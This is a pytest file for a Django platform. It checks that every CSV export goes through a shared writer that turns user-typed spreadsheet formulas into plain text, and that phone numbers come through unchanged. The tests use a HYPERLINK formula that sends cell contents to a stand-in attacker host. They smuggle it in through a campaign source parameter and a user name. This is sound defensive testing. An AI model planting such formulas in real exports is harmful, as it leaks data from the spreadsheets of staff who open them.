"""The one CSV writer: every export keeps a formula typed by the public as plain text."""

import csv
import io
from pathlib import Path

import pytest
from django.urls import reverse

from candidates.models import Demographics, IntroCall, IntroCallRegistration
from insights.analytics.refresh import analytics_refresh
from rfs.csv_writer import csv_safe
from tests.conftest import signup_data
from tests.factories import CandidateFactory

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+16515550123", "+16515550123"),  # an E.164 phone number stays a phone number
        ("+1 651 555 0123", "'+1 651 555 0123"),  # not digits only: could be a formula
        ("Casey Rivera", "Casey Rivera"),
        ("", ""),
        (None, ""),
        (-3, -3),  # a number is never a formula
    ],
)
def test_csv_safe_neutralises_formula_starts_but_not_phones(value, written):
    assert csv_safe(value) == written


def rows_of(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode().lstrip("\ufeff"))))


def cells(response) -> set[str]:
    return {cell for row in rows_of(response) for cell in row}


@pytest.mark.django_db
def test_funnel_csv_by_source_keeps_a_campaign_formula_as_text(client, staff, north):
    # The audit's path: a link with a formula as its source, then signing up.
    client.get(reverse("home"), {"utm_source": FORMULA})
    client.post(reverse("account_signup"), signup_data())
    client.logout()
    analytics_refresh()
    client.force_login(staff)

    response = client.get(reverse("dashboard_funnel_csv"), {"by": "source"})

    assert "'" + FORMULA in cells(response)
    assert FORMULA not in cells(response)


@pytest.mark.django_db
def test_fair_share_csv_keeps_a_formula_as_text(client, staff, north):
    Demographics.objects.create(candidate=CandidateFactory(state="NY"), gender="=1+1")
    analytics_refresh()
    client.force_login(staff)

    response = client.get(reverse("dashboard_fair_share_csv"), {"dimension": "gender"})

    assert "'=1+1" in cells(response)
    assert "=1+1" not in cells(response)


@pytest.mark.django_db
def test_roster_csv_keeps_a_formula_as_text(client, director, north):
    from django.utils import timezone

    call = IntroCall.objects.create(
        region=north,
        host=director,
        starts_at=timezone.now(),
        meeting_url="https://meet.example.org/intro",
    )
    IntroCallRegistration.objects.create(
        call=call, candidate=CandidateFactory(state="NY", user__name=FORMULA)
    )
    client.force_login(director)

    response = client.get(reverse("candidates:host_call_roster_csv", args=[call.pk]))

    assert "'" + FORMULA in cells(response)
    assert FORMULA not in cells(response)


@pytest.mark.django_db
def test_admin_candidates_csv_keeps_a_formula_as_text_and_phones_as_phones(client, director, north):
    CandidateFactory(state="NY", user__name=FORMULA, phone="+16515550123")
    client.force_login(director)

    written = cells(client.get(reverse("admin:candidates_candidate_export")))

    assert "'" + FORMULA in written
    assert FORMULA not in written
    assert "+16515550123" in written


def test_no_export_writes_csv_around_the_shared_writer():
    # Every CSV the platform hands out goes through rfs.csv_writer; a new csv.writer
    # elsewhere would skip the formula check. (scripts/ only makes benchmark input.)
    root = Path(__file__).resolve().parents[2]
    apps = ["rfs", "candidates", "endorsements", "mentorship", "resources"]
    offenders = [
        str(path.relative_to(root))
        for app in apps
        for path in (root / app).rglob("*.py")
        if path.name != "csv_writer.py"
        and ("csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
    ]

    assert offenders == []
